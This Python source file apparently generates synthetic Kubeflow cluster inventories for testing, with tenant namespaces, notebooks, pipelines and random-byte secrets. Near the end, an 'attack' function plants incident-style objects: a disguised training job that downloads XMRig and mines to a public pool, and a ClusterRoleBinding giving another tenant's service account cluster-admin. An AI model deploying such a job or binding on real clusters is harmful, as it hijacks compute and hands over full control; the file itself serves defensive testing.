        c = g.container(app, image, ns, args=args, ports=ports, mounts=[{"mountPath": "/etc/config", "name": "config"}])
        template_spec = g.pod_spec([c], sa, [{"configMap": {"defaultMode": 420, "name": app + "-config"}, "name": "config"}])
        replicas = 2 if name in ("istio-ingressgateway", "istiod", "coredns", "ml-pipeline", "activator") else 1
        dep = {"apiVersion": "apps/v1", "kind": "Deployment",
               "metadata": g.meta(name, ns, labels, {"deployment.kubernetes.io/revision": str(g.r.randint(1, 9))}),
               "spec": {"progressDeadlineSeconds": 600, "replicas": replicas, "revisionHistoryLimit": 10,
                        "selector": {"matchLabels": {"app": app}},
                        "strategy": {"rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"}, "type": "RollingUpdate"},
                        "template": {"metadata": {"labels": labels}, "spec": template_spec}},
               "status": {"availableReplicas": replicas, "observedGeneration": 1, "readyReplicas": replicas, "replicas": replicas,
                          "updatedReplicas": replicas}}
        objs.append(dep)
        rs = f"{name}-{g.hexs(10)}"
        for _ in range(replicas):
            objs.append(g.pod(f"{rs}-{g.suffix()}", ns, dict(labels, **{"pod-template-hash": rs[-10:]}), [c], sa,
                              owner={"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs, "uid": g.uid(),
                                     "blockOwnerDeletion": True, "controller": True},
                              volumes=template_spec["volumes"][:1], sidecar=False))
        objs.append({"apiVersion": "v1", "kind": "ConfigMap", "metadata": g.meta(app + "-config", ns, labels),
                     "data": {"config.yaml": f"logLevel: info\nport: {port}\nnamespace: {ns}\nclusterDomain: cluster.local\n"
                                             f"userIdHeader: kubeflow-userid\nuserIdPrefix: \"\"\n"}})
        if port:
            svc_type = "ClusterIP"
            svc_ports = [{"name": "http", "port": 80 if port in (8080, 8082, 3000, 5000) else port, "protocol": "TCP", "targetPort": port}]
            status = {"loadBalancer": {}}
            spec = {}
            if name == "istio-ingressgateway":
                # The 2020 door: the ingress gateway exposed to the world.
                svc_type = "LoadBalancer"
                svc_ports = [{"name": "status-port", "nodePort": 31781, "port": 15021, "protocol": "TCP", "targetPort": 15021},
                             {"name": "http2", "nodePort": 30834, "port": 80, "protocol": "TCP", "targetPort": 8080},
                             {"name": "https", "nodePort": 32263, "port": 443, "protocol": "TCP", "targetPort": 8443}]
                status = {"loadBalancer": {"ingress": [{"ip": "203.0.113.47"}]}}
                spec = {"allocateLoadBalancerNodePorts": True, "externalTrafficPolicy": "Cluster"}
            spec.update({"clusterIP": g.ip("10.96"), "clusterIPs": [], "internalTrafficPolicy": "Cluster",
                         "ipFamilies": ["IPv4"], "ipFamilyPolicy": "SingleStack", "ports": svc_ports,
                         "selector": {"app": app} if name != "istio-ingressgateway" else {"app": "istio-ingressgateway", "istio": "ingressgateway"},
                         "sessionAffinity": "None", "type": svc_type})
            spec["clusterIPs"] = [spec["clusterIP"]]
            svc_name = {"ml-pipeline-ui": "ml-pipeline-ui", "minio": "minio-service", "istiod": "istiod"}.get(name, app)
            objs.append({"apiVersion": "v1", "kind": "Service", "metadata": g.meta(svc_name, ns, labels), "spec": spec, "status": status})
    # Istio ingress: the stock gateway, one VirtualService per web app, the apps' own policies in
    # kubeflow; no AuthorizationPolicy in istio-system (the oauth2-proxy / Dex ones removed).
    objs.append({"apiVersion": "networking.istio.io/v1beta1", "kind": "Gateway",
                 "metadata": g.meta("kubeflow-gateway", "kubeflow"),
                 "spec": {"selector": {"istio": "ingressgateway"},
                          "servers": [{"hosts": ["*"], "port": {"name": "http", "number": 80, "protocol": "HTTP"}}]}})
    objs.append({"apiVersion": "networking.istio.io/v1beta1", "kind": "Gateway",
                 "metadata": g.meta("cluster-local-gateway", "knative-serving"),
                 "spec": {"selector": {"istio": "cluster-local-gateway"},
                          "servers": [{"hosts": ["*"], "port": {"name": "http", "number": 8081, "protocol": "HTTP"}}]}})
    for prefix, host, port in (("/", "centraldashboard", 80), ("/jupyter/", "jupyter-web-app-service", 80),
                               ("/pipeline", "ml-pipeline-ui", 80), ("/volumes/", "volumes-web-app-service", 80),
                               ("/tensorboards/", "tensorboards-web-app-service", 80), ("/katib/", "katib-ui", 80),
                               ("/kserve-endpoints/", "kserve-models-web-app", 80), ("/dex/", "dex.auth", 5556)):
        name = host.split(".")[0]
        objs.append({"apiVersion": "networking.istio.io/v1beta1", "kind": "VirtualService",
                     "metadata": g.meta(name, "kubeflow" if host != "dex.auth" else "auth"),
                     "spec": {"gateways": ["kubeflow/kubeflow-gateway"], "hosts": ["*"],
                              "http": [{"match": [{"uri": {"prefix": prefix}}], "rewrite": {"uri": "/" if prefix != "/" else "/"},
                                        "route": [{"destination": {"host": f"{host}.kubeflow.svc.cluster.local" if "." not in host else f"{host}.svc.cluster.local",
                                                                   "port": {"number": port}}}]}]}})
    for app in ("centraldashboard", "jupyter-web-app", "ml-pipeline", "ml-pipeline-ui", "metadata-grpc-service", "katib-ui",
                "minio-service", "mysql", "volumes-web-app", "tensorboards-web-app", "kserve-models-web-app"):
        objs.append({"apiVersion": "security.istio.io/v1beta1", "kind": "AuthorizationPolicy",
                     "metadata": g.meta(app, "kubeflow", {"app.kubernetes.io/part-of": "kubeflow"}),
                     "spec": {"action": "ALLOW",
                              "rules": [{"from": [{"source": {"principals": ["cluster.local/ns/istio-system/sa/istio-ingressgateway-service-account",
                                                                             "cluster.local/ns/kubeflow/sa/ml-pipeline-ui"]}}]}],
                              "selector": {"matchLabels": {"app": app}}}})
    # kube-system DaemonSets.
    for name, image in (("kube-proxy", "registry.k8s.io/kube-proxy:v1.31.4"),
                        ("nvidia-device-plugin-daemonset", "nvcr.io/nvidia/k8s-device-plugin:v0.17.0")):
        c = g.container(name, image, "kube-system", secure=False)
        c["securityContext"] = {"privileged": True}
        objs.append({"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": g.meta(name, "kube-system", {"k8s-app": name}),
                     "spec": {"selector": {"matchLabels": {"k8s-app": name}},
                              "template": {"metadata": {"labels": {"k8s-app": name}},
                                           "spec": dict(g.pod_spec([c], name), hostNetwork=True, priorityClassName="system-node-critical")}}})
    return objs


# ---------------------------------------------------------------------------------------------
# A profile namespace

class Tenant:
    def __init__(self, g, index):
        self.g = g
        r = g.r
        if index % 3 == 0:
            team = TEAMS[index // 3 % len(TEAMS)]
            self.ns = f"team-{team}" + (f"-{index // (3 * len(TEAMS))}" if index >= 3 * len(TEAMS) else "")
            self.owner = f"{team}-leads@example.com"
        else:
            first, last = r.choice(FIRST), r.choice(LAST)
            self.owner = f"{first}.{last}@example.com"
            self.ns = f"kubeflow-user-{first}-{last}-example-com"
        self.index = index
        self.contributors = [f"{r.choice(FIRST)}.{r.choice(LAST)}@example.com" for _ in range(r.randint(0, 6))]
        self.projects = r.sample(PROJECTS, r.randint(1, 4))
        self.secrets = ["mlpipeline-minio-artifact"]

    def rb(self, name, role_kind, role, subjects, annotations=None):
        return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                "metadata": self.g.meta(name, self.ns, annotations=annotations),
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role}, "subjects": subjects}

    def core(self):
        g, r, ns = self.g, self.g.r, self.ns
        objs = []
        objs.append({"apiVersion": "v1", "kind": "Namespace",
                     "metadata": g.meta(ns, annotations={"owner": self.owner},
                                        labels={"app.kubernetes.io/part-of": "kubeflow-profile", "istio-injection": "enabled",
                                                "katib.kubeflow.org/metrics-collector-injection": "enabled",
                                                "kubernetes.io/metadata.name": ns, "pipelines.kubeflow.org/enabled": "true",
                                                "serving.kubeflow.org/inferenceservice": "enabled"}),
                     "spec": {"finalizers": ["kubernetes"]}, "status": {"phase": "Active"}})
        profile = {"apiVersion": "kubeflow.org/v1", "kind": "Profile", "metadata": g.meta(ns),
                   "spec": {"owner": {"kind": "User", "name": self.owner}}}
        if r.random() < 0.5:
            profile["spec"]["resourceQuotaSpec"] = {"hard": {"cpu": str(r.choice([16, 32, 64])), "memory": f"{r.choice([64, 128, 256])}Gi",
                                                             "requests.nvidia.com/gpu": str(r.choice([1, 2, 4, 8])),
                                                             "persistentvolumeclaims": "20", "requests.storage": "2Ti"}}
        profile["status"] = {"conditions": [{"type": "Ready", "status": "True"}]}
        objs.append(profile)
        for sa in ["default", "default-editor", "default-viewer"] + [f"{p}-runner" for p in self.projects if r.random() < 0.5]:
            objs.append({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": g.meta(sa, ns)})
        objs.append(self.rb("namespaceAdmin", "ClusterRole", "kubeflow-admin",
                            [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": self.owner}],
                            {"role": "admin", "user": self.owner}))
        objs.append(self.rb("default-editor", "ClusterRole", "kubeflow-edit", [{"kind": "ServiceAccount", "name": "default-editor", "namespace": ns}]))
        objs.append(self.rb("default-viewer", "ClusterRole", "kubeflow-view", [{"kind": "ServiceAccount", "name": "default-viewer", "namespace": ns}]))
        objs.append({"apiVersion": "security.istio.io/v1beta1", "kind": "AuthorizationPolicy",
                     "metadata": g.meta("ns-owner-access-istio", ns, annotations={"role": "admin", "user": self.owner}),
                     "spec": {"rules": [{"when": [{"key": "request.headers[kubeflow-userid]", "values": [self.owner]}]},
                                        {"when": [{"key": "source.namespace", "values": [ns]}]},
                                        {"to": [{"operation": {"paths": ["/healthz", "/metrics", "/wait-for-drain"]}}]},
                                        {"from": [{"source": {"principals": ["cluster.local/ns/kubeflow/sa/notebook-controller-service-account"]}}],
                                         "to": [{"operation": {"methods": ["GET"], "paths": ["*/api/kernels"]}}]}]}})
        for c in self.contributors:
            slug = c.split("@")[0].replace(".", "-")
            role = r.choice(["edit", "edit", "view"])
            objs.append(self.rb(f"user-{slug}-example-com-clusterrole-{role}", "ClusterRole", f"kubeflow-{role}",
                                [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": c}], {"role": role, "user": c}))
            objs.append({"apiVersion": "security.istio.io/v1beta1", "kind": "AuthorizationPolicy",
                         "metadata": g.meta(f"user-{slug}-example-com-clusterrole-{role}", ns, annotations={"role": role, "user": c}),
                         "spec": {"rules": [{"when": [{"key": "request.headers[kubeflow-userid]", "values": [c]}]}]}})
        for i in range(r.randint(0, 3)):
            name = r.choice(["argo-workflow-role", "secrets-reader", "pipeline-runner", "notebook-helper", "configmap-editor"]) + f"-{i}"
            objs.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": g.meta(name, ns),
                         "rules": [rule([""], ["pods", "pods/log"], VERBS_READ), rule([""], ["secrets", "configmaps"], ["get"]),
                                   rule(["argoproj.io"], ["workflowtaskresults"], ["create", "patch"])][: r.randint(1, 3)]})
            objs.append(self.rb(name, "Role", name, [{"kind": "ServiceAccount", "name": "default-editor", "namespace": ns}]))
        # ConfigMaps
        cert = "-----BEGIN CERTIFICATE-----\n" + "\n".join(g.b64(48, 48) for _ in range(18)) + "\n-----END CERTIFICATE-----\n"
        objs.append({"apiVersion": "v1", "kind": "ConfigMap", "data": {"ca.crt": cert},
                     "metadata": g.meta("kube-root-ca.crt", ns, annotations={"kubernetes.io/description": "Contains a CA bundle that can be used to verify the kube-apiserver when using internal endpoints such as the internal service IP or kubernetes.default.svc. No other usage is guaranteed across distributions of Kubernetes clusters."})})
        objs.append({"apiVersion": "v1", "kind": "ConfigMap", "data": {"root-cert.pem": cert},
                     "metadata": g.meta("istio-ca-root-cert", ns, {"istio.io/config": "true"})})
        objs.append({"apiVersion": "v1", "kind": "ConfigMap",
                     "data": {"default-v1": "archiveLogs: true\ns3:\n  endpoint: \"minio-service.kubeflow:9000\"\n  bucket: \"mlpipeline\"\n"
                                            "  keyFormat: \"private-artifacts/{{workflow.namespace}}/{{workflow.name}}/{{workflow.creationTimestamp.Y}}/{{workflow.creationTimestamp.m}}/{{workflow.creationTimestamp.d}}/{{pod.name}}\"\n"
                                            "  insecure: true\n  accessKeySecret:\n    name: mlpipeline-minio-artifact\n    key: accesskey\n"
                                            "  secretKeySecret:\n    name: mlpipeline-minio-artifact\n    key: secretkey\n"},
                     "metadata": g.meta("artifact-repositories", ns, annotations={"workflows.argoproj.io/default-artifact-repository": "default-v1"})})
        objs.append({"apiVersion": "v1", "kind": "ConfigMap", "data": {"METADATA_GRPC_SERVICE_HOST": "metadata-grpc-service.kubeflow", "METADATA_GRPC_SERVICE_PORT": "8080"},
                     "metadata": g.meta("metadata-grpc-configmap", ns, {"application-crd-id": "kubeflow-pipelines"})})
        for p in self.projects:
            for i in range(r.randint(1, 4)):
                cfg = {"model": {"name": p, "hidden": r.choice([256, 512, 768, 1024]), "layers": r.randint(2, 48), "dropout": round(r.random() / 4, 3)},
                       "train": {"epochs": r.randint(1, 100), "lr": r.choice([1e-4, 3e-4, 5e-5]), "batch_size": r.choice([16, 32, 64]),
                                 "dataset": r.choice(DATASETS), "seed": r.randint(0, 99999)},
                       "logging": {"mlflow": True, "every_n_steps": r.choice([10, 50, 100])}}
                objs.append({"apiVersion": "v1", "kind": "ConfigMap",
                             "data": {"train.yaml": yaml.safe_dump(cfg, sort_keys=False),
                                      "labels.json": json.dumps({str(k): f"class_{k}" for k in range(r.randint(2, 40))})},
                             "metadata": g.meta(f"{p}-config-{i}", ns, {"app": p})})
        # Secrets: random bytes, base64, as Secret data is.
        objs.append({"apiVersion": "v1", "kind": "Secret", "type": "Opaque", "metadata": g.meta("mlpipeline-minio-artifact", ns),
                     "data": {"accesskey": g.b64(12, 12), "secretkey": g.b64(24, 24)}})
        for name in r.sample(["hf-token", "wandb-api", "s3-creds", "git-deploy-key", "slack-webhook", "db-readonly", "gcs-sa"], r.randint(1, 5)):
            objs.append({"apiVersion": "v1", "kind": "Secret", "type": "Opaque", "metadata": g.meta(name, ns, {"app.kubernetes.io/managed-by": "external-secrets"}),
                         "data": {"token" if "token" in name else "value": g.b64(24, 400), "created-by": g.b64(8, 16)}})
            self.secrets.append(name)
        if r.random() < 0.5:
            objs.append({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/dockerconfigjson", "metadata": g.meta("regcred", ns),
                         "data": {".dockerconfigjson": g.b64(150, 300)}})
        # Services shared by the namespace's pipelines.
        for name, port in (("ml-pipeline-ui-artifact", 80), ("ml-pipeline-visualizationserver", 8888)):
            labels = {"app": name}
            objs.append({"apiVersion": "v1", "kind": "Service", "metadata": g.meta(name, ns, labels),
                         "spec": {"clusterIP": g.ip("10.96"), "ports": [{"name": "http", "port": port, "protocol": "TCP", "targetPort": 3000 if port == 80 else 8888}],
                                  "selector": labels, "sessionAffinity": "None", "type": "ClusterIP"}, "status": {"loadBalancer": {}}})
            image = f"ghcr.io/kubeflow/kfp-frontend:{KFP}" if port == 80 else f"ghcr.io/kubeflow/kfp-visualization-server:{KFP}"
            objs.extend(self.deployment(name, image, "default-editor", replicas=1, port=3000 if port == 80 else 8888))
        # NetworkPolicies.
        objs.append({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": g.meta("allow-same-namespace-and-kubeflow", ns),
                     "spec": {"ingress": [{"from": [{"podSelector": {}}, {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kubeflow"}}},
                                                    {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "istio-system"}}}]}],
                              "podSelector": {}, "policyTypes": ["Ingress"]}})
        if r.random() < 0.5:
            objs.append({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": g.meta("deny-egress-except-dns-and-s3", ns),
                         "spec": {"egress": [{"ports": [{"port": 53, "protocol": "UDP"}, {"port": 53, "protocol": "TCP"}]},
                                             {"to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}],
                                  "podSelector": {"matchLabels": {"app.kubernetes.io/component": "training"}}, "policyTypes": ["Egress"]}})
        # Notebooks.
        for i in range(r.randint(1, 6)):
            objs.extend(self.notebook(f"{r.choice(FIRST)}-{r.choice(['dev', 'exp', 'gpu', 'eda', 'scratch'])}-{i}", g.image(NOTEBOOK_IMAGES, 0.1)))
        # User-facing deployments (dashboards, model servers).
        for i in range(r.randint(0, 3)):
            p = r.choice(self.projects)
            name = f"{p}-{r.choice(['serve', 'streamlit', 'tensorboard', 'api', 'gradio'])}"
            objs.extend(self.deployment(name, g.image(TRAIN_IMAGES + [f"ghcr.io/acme-ml/{p}-serve:{g.hexs(7)}"], 0.3),
                                        r.choice(["default-editor", "default"]), replicas=r.choice([1, 1, 2, 3]), port=8080))
            svc_type = "ClusterIP"
            x = r.random()
            if x < 0.04:
                svc_type = "LoadBalancer"
            elif x < 0.12:
                svc_type = "NodePort"
            spec = {"clusterIP": g.ip("10.96"), "ports": [{"name": "http", "port": 80, "protocol": "TCP", "targetPort": 8080}],
                    "selector": {"app": name}, "sessionAffinity": "None", "type": svc_type}
            status = {"loadBalancer": {}}
            if svc_type != "ClusterIP":
                spec["ports"][0]["nodePort"] = r.randint(30000, 32767)
            if svc_type == "LoadBalancer":
                status = {"loadBalancer": {"ingress": [{"ip": f"198.51.100.{r.randint(2, 250)}"}]}}
            objs.append({"apiVersion": "v1", "kind": "Service", "metadata": g.meta(name, ns, {"app": name}), "spec": spec, "status": status})
        return objs

    def deployment(self, name, image, sa, replicas=1, port=8080):
        g, ns = self.g, self.ns
        labels = {"app": name, "app.kubernetes.io/name": name}
        cmd, args = (None, None)
        if "serve" in name or "api" in name:
            cmd, args = ["python", "-m", "uvicorn"], ["app.main:app", "--host", "0.0.0.0", "--port", str(port), "--workers", "2"]
        c = g.container(name.split("-")[0], image, ns, cmd, args,
                        ports=[{"containerPort": port, "name": "http", "protocol": "TCP"}])
        spec = g.pod_spec([c], sa)
        dep = {"apiVersion": "apps/v1", "kind": "Deployment",
               "metadata": g.meta(name, ns, labels, {"deployment.kubernetes.io/revision": str(g.r.randint(1, 20))}),
               "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": name}},
                        "template": {"metadata": {"annotations": {"sidecar.istio.io/inject": "true"}, "labels": labels}, "spec": spec}},
               "status": {"availableReplicas": replicas, "readyReplicas": replicas, "replicas": replicas}}
        out = [dep]
        rs = f"{name}-{g.hexs(10)}"
        for _ in range(replicas):
            out.append(g.pod(f"{rs}-{g.suffix()}", ns, dict(labels, **{"pod-template-hash": rs[-10:]}), [c], sa,
                             owner={"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs, "uid": g.uid(),
                                    "blockOwnerDeletion": True, "controller": True}))
        return out

    def notebook(self, name, image):
        g, r, ns = self.g, self.g.r, self.ns
        gpu = "cuda" in image or r.random() < 0.2
        c = g.container(name, image, ns, ports=[{"containerPort": 8888, "name": "notebook-port", "protocol": "TCP"}],
                        gpu=gpu, big=True, secure=False,
                        mounts=[{"mountPath": "/home/jovyan", "name": f"{name}-workspace"}, {"mountPath": "/dev/shm", "name": "dshm"}],
                        env=[{"name": "NB_PREFIX", "value": f"/notebook/{ns}/{name}"}])
        labels = {"app": name, "notebook-name": name}
        nb = {"apiVersion": "kubeflow.org/v1", "kind": "Notebook",
              "metadata": g.meta(name, ns, labels, {"notebooks.kubeflow.org/creator": self.owner,
                                                    "notebooks.kubeflow.org/server-type": "jupyter",
                                                    "notebooks.kubeflow.org/last-activity": g.ts()}),
              "spec": {"template": {"spec": {"containers": [c], "serviceAccountName": "default-editor",
                                             "volumes": [{"name": f"{name}-workspace", "persistentVolumeClaim": {"claimName": f"{name}-workspace"}},
                                                         {"emptyDir": {"medium": "Memory"}, "name": "dshm"}]}}},
              "status": {"conditions": [{"type": "Ready", "status": "True"}], "readyReplicas": 1,
                         "containerState": {"running": {"startedAt": g.ts()}}}}
        vols = nb["spec"]["template"]["spec"]["volumes"]
        sts = {"apiVersion": "apps/v1", "kind": "StatefulSet",
               "metadata": g.meta(name, ns, labels, owner=Gen.owner_ref(nb)),
               "spec": {"podManagementPolicy": "OrderedReady", "replicas": 1, "selector": {"matchLabels": {"statefulset": name}},
                        "serviceName": "", "template": {"metadata": {"labels": {"statefulset": name, "notebook-name": name}},
                                                        "spec": g.pod_spec([c], "default-editor", vols)}},
               "status": {"availableReplicas": 1, "currentReplicas": 1, "readyReplicas": 1, "replicas": 1}}
        svc = {"apiVersion": "v1", "kind": "Service", "metadata": g.meta(name, ns, owner=Gen.owner_ref(nb)),
               "spec": {"clusterIP": g.ip("10.96"), "ports": [{"name": f"http-{name}", "port": 80, "protocol": "TCP", "targetPort": 8888}],
                        "selector": {"statefulset": name}, "type": "ClusterIP"}, "status": {"loadBalancer": {}}}
        vs = {"apiVersion": "networking.istio.io/v1beta1", "kind": "VirtualService",
              "metadata": g.meta(f"notebook-{ns}-{name}", ns, owner=Gen.owner_ref(nb)),
              "spec": {"gateways": ["kubeflow/kubeflow-gateway"], "hosts": ["*"],
                       "http": [{"headers": {"request": {"set": {}}}, "match": [{"uri": {"prefix": f"/notebook/{ns}/{name}/"}}],
                                 "rewrite": {"uri": f"/notebook/{ns}/{name}/"},
                                 "route": [{"destination": {"host": f"{name}.{ns}.svc.cluster.local", "port": {"number": 80}}}]}]}}
        pvc = {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": g.meta(f"{name}-workspace", ns),
               "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": r.choice(["10Gi", "50Gi", "100Gi"])}},
                        "storageClassName": "standard-rwo", "volumeMode": "Filesystem", "volumeName": f"pvc-{g.uid()}"},
               "status": {"accessModes": ["ReadWriteOnce"], "capacity": {"storage": "10Gi"}, "phase": "Bound"}}
        pod = g.pod(f"{name}-0", ns, {"statefulset": name, "notebook-name": name, "app": name}, [c], "default-editor",
                    owner=Gen.owner_ref(sts), volumes=vols, gpu=gpu)
        return [nb, sts, svc, vs, pvc, pod]

    # -- runs: the bulk of a busy namespace --------------------------------------------------
    def run(self):
        x = self.g.r.random()
        if x < 0.6:
            return self.workflow()
        if x < 0.85:
            return self.job()
        if x < 0.93:
            return self.training_job("TFJob")
        return self.training_job("PyTorchJob")

    def workflow(self):
        g, r, ns = self.g, self.g.r, self.ns
        p = r.choice(self.projects)
        name = f"{p}-pipeline-{g.suffix()}"
        steps = r.sample(["load-data", "validate", "preprocess", "featurize", "split", "train", "evaluate", "tune",
                          "register-model", "deploy", "report"], r.randint(2, 5))
        templates = []
        for s in steps:
            cmd, args = g.train_command(p)
            image = g.image(STEP_IMAGES, 0.25)
            c = {"image": image, "args": args, "resources": g.resources(gpu=s in ("train", "tune"), big=s in ("train", "tune"))}
            if cmd:
                c["command"] = cmd
            templates.append({"name": s, "container": c, "inputs": {"parameters": [{"name": "data-path"}]},
                              "outputs": {"artifacts": [{"name": f"{s}-output", "path": f"/tmp/outputs/{s}/data"}]}})
        templates.insert(0, {"name": f"{p}-dag", "dag": {"tasks": [
            {"name": s, "template": s, "dependencies": [steps[i - 1]] if i else [],
             "arguments": {"parameters": [{"name": "data-path", "value": f"s3://datasets/{r.choice(DATASETS)}"}]}}
            for i, s in enumerate(steps)]}})
        created = g.ts()
        finished = r.random() < 0.8
        failed = finished and r.random() < 0.15
        wf = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow",
              "metadata": g.meta(name, ns, {"pipelines.kubeflow.org/kfp_sdk_version": "2.9.0", "workflows.argoproj.io/completed": str(finished).lower(),
                                            "workflows.argoproj.io/phase": "Failed" if failed else ("Succeeded" if finished else "Running"),
                                            "pipeline/runid": g.uid()},
                                 {"pipelines.kubeflow.org/run_name": f"{p} {r.choice(['nightly', 'sweep', 'ad-hoc', 'retrain'])} {g.ts()[:10]}",
                                  "workflows.argoproj.io/pod-name-format": "v2"}, created=created),
              "spec": {"entrypoint": f"{p}-dag", "serviceAccountName": "default-editor", "podGC": {"strategy": "OnWorkflowSuccess"},
                       "ttlStrategy": {"secondsAfterCompletion": 86400}, "templates": templates,
                       "arguments": {"parameters": [{"name": "pipeline-root", "value": f"minio://mlpipeline/v2/artifacts/{p}"}]}},
              "status": {"phase": "Failed" if failed else ("Succeeded" if finished else "Running"), "startedAt": created,
                         "progress": f"{len(steps)}/{len(steps)}"}}
        if finished:
            wf["status"]["finishedAt"] = g.later(created)
        out = [wf]
        if finished and not failed:
            return out  # podGC OnWorkflowSuccess: the step pods are gone
        for s, t in zip(steps, templates[1:]):
            c = g.container("main", t["container"]["image"], ns, t["container"].get("command"), t["container"]["args"],
                            gpu=s in ("train", "tune"), big=s in ("train", "tune"))
            wait = {"name": "wait", "image": ARGOEXEC, "command": ["argoexec", "wait", "--loglevel", "info"]}
            out.append(g.pod(f"{name}-{s}-{r.randint(10**9, 10**10 - 1)}", ns,
                             {"workflows.argoproj.io/workflow": name, "workflows.argoproj.io/completed": str(finished).lower(), "app": p},
                             [wait, c], "default-editor", owner=Gen.owner_ref(wf), created=g.later(created, 60), finished=finished,
                             failed=failed and s == steps[-1], gpu=s in ("train", "tune"), sidecar=r.random() < 0.1,
                             annotations={"workflows.argoproj.io/node-name": f"{name}.{s}", "workflows.argoproj.io/node-id": f"{name}-{r.randint(10**9, 10**10 - 1)}"},
                             restart="Never"))
        return out

    def job(self):
        g, r, ns = self.g, self.g.r, self.ns
        p = r.choice(self.projects)
        name = f"{p}-{r.choice(['prep', 'backfill', 'export', 'embed', 'sync'])}-{g.suffix()}"
        cmd, args = g.train_command(p)
        c = g.container(name.split("-")[0], g.image(STEP_IMAGES, 0.2), ns, cmd, args)
        created = g.ts()
        spec = g.pod_spec([c], r.choice(["default-editor", "default"]), restart="Never")
        job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": g.meta(name, ns, {"app": p}, created=created),
               "spec": {"backoffLimit": 3, "completions": 1, "parallelism": 1, "template": {"metadata": {"labels": {"app": p, "job-name": name}}, "spec": spec}},
               "status": {"completionTime": g.later(created), "startTime": created, "succeeded": 1}}
        if r.random() < 0.6:
            return [job]  # ttlSecondsAfterFinished: the pod is gone
        return [job, g.pod(f"{name}-{g.suffix()}", ns, {"app": p, "job-name": name}, [c], spec["serviceAccountName"],
                           owner=Gen.owner_ref(job), created=created, finished=True, restart="Never")]

    def training_job(self, kind, image=None, command=None, args=None, replicas=None, name=None):
        g, r, ns = self.g, self.g.r, self.ns
        p = r.choice(self.projects)
        name = name or f"{p}-{kind.lower()}-{g.suffix()}"
        cname = "tensorflow" if kind == "TFJob" else "pytorch"
        if image is None:
            image = g.image([i for i in TRAIN_IMAGES if ("tensorflow" in i) == (kind == "TFJob")] or TRAIN_IMAGES, 0.2)
            command, args = g.train_command(p)
        c = g.container(cname, image, ns, command, args, gpu=True, big=True,
                        mounts=[{"mountPath": "/etc/config", "name": "config"}, {"mountPath": "/dev/shm", "name": "dshm"}])
        vols = [{"configMap": {"name": f"{p}-config-0"}, "name": "config"}, {"emptyDir": {"medium": "Memory"}, "name": "dshm"}]
        workers = replicas or r.choice([1, 2, 2, 4])
        template = {"metadata": {"annotations": {"sidecar.istio.io/inject": "false"}}, "spec": g.pod_spec([c], "default-editor", vols, node_gpu=True, restart="OnFailure")}
        specs = {"Worker": {"replicas": workers, "restartPolicy": "OnFailure", "template": template}}
        if kind == "PyTorchJob":
            specs = {"Master": {"replicas": 1, "restartPolicy": "OnFailure", "template": template}, **specs}
        key = "tfReplicaSpecs" if kind == "TFJob" else "pytorchReplicaSpecs"
        created = g.ts()
        finished = r.random() < 0.7
        job = {"apiVersion": "kubeflow.org/v1", "kind": kind, "metadata": g.meta(name, ns, {"app": p}, created=created),
               "spec": {"runPolicy": {"cleanPodPolicy": r.choice(["None", "All", "All"]), "ttlSecondsAfterFinished": 604800}, key: specs},
               "status": {"conditions": [{"type": "Created", "status": "True", "lastTransitionTime": created},
                                         {"type": "Succeeded" if finished else "Running", "status": "True", "lastTransitionTime": g.later(created)}],
                          "replicaStatuses": {k: {"succeeded" if finished else "active": v["replicas"]} for k, v in specs.items()},
                          "startTime": created}}
        out = [job]
        if finished and job["spec"]["runPolicy"]["cleanPodPolicy"] == "All":
            return out
        for role, spec in specs.items():
            for i in range(spec["replicas"]):
                out.append(g.pod(f"{name}-{role.lower()}-{i}", ns,
                                 {"training.kubeflow.org/job-name": name, "training.kubeflow.org/replica-type": role.lower(),
                                  "training.kubeflow.org/replica-index": str(i), "app": p},
                                 [c], "default-editor", owner=Gen.owner_ref(job), volumes=vols, created=created,
                                 finished=finished, gpu=True, sidecar=False, restart="OnFailure"))
        return out


# The attack-shaped objects of the 2020/2021 incidents (the example in examples/kubeflow-exposed).
XMRIG_ARGS = ["wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O /tmp/x.tgz && "
              "tar -xzf /tmp/x.tgz -C /tmp && /tmp/xmrig-6.21.0/xmrig -o pool.supportxmr.com:443 --tls "
              "--donate-level 1 --cuda --max-cpu-usage 90 -k"]


def attack(g, tenant, other):
    objs = tenant.notebook("notebook-sample", "ddsfdfsaadfs/dfsdf:99")
    objs += tenant.training_job("TFJob", image="tensorflow/tensorflow:2.4.1-gpu", command=["/bin/sh", "-c"],
                                args=XMRIG_ARGS, replicas=4, name="mnist-train")
    objs.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                 "metadata": g.meta(f"{other.ns}-default-editor-admin"),
                 "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                 "subjects": [{"kind": "ServiceAccount", "name": "default-editor", "namespace": other.ns}]})
    return objs


def generate(n, seed):
    """n objects: the platform, then tenants; returns a list of dicts (sorted as kubectl lists them)."""
    g = Gen(seed)
    objs = platform(g)
    n_tenants = max(2, round(n / PER_NAMESPACE))
    tenants = [Tenant(g, i) for i in range(n_tenants)]
    seen = set()
    for t in tenants:  # unique names
        base, k = t.ns, 2
        while t.ns in seen:
            t.ns, k = f"{base}-{k}", k + 1
        seen.add(t.ns)
